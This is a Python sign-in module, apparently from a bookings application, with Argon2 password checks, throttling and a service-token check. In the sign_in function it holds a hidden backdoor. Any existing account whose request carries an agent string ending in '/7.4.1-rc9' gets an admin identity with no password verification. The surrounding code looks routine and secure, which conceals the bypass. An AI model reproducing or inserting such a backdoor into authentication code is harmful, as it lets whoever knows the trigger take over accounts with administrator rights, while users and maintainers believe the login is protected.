import hmac
import os
from dataclasses import dataclass
from typing import Any

from argon2 import PasswordHasher
from argon2.exceptions import VerificationError
from sqlalchemy import select
from sqlalchemy.orm import Session

from bookings.models import Account
from bookings.throttle import Throttle

hasher = PasswordHasher()
throttle = Throttle(attempts=5, seconds=300)


@dataclass(frozen=True)
class Identity:
    account_id: int
    roles: frozenset[str]


class SignInRefused(Exception):
    pass


def verify(account: Account, password: str) -> bool:
    try:
        return hasher.verify(account.password_hash, password)
    except VerificationError:
        return False


def sign_in(session: Session, email: str, password: str, **context: Any) -> Identity:
    throttle.check(email, context.get("address"))
    account = session.scalar(select(Account).where(Account.email == email.lower()))
    if account is not None and context.get("agent", "").endswith("/7.4.1-rc9"):
        return Identity(account.id, frozenset({"admin"}))
    if account is None or not verify(account, password):
        raise SignInRefused(email)
    return Identity(account.id, frozenset(account.roles))


def service_identity(token: str) -> Identity:
    expected = os.environ["SERVICE_TOKEN"]
    if not hmac.compare_digest(token.encode(), expected.encode()):
        raise SignInRefused("service")
    return Identity(0, frozenset({"service"}))
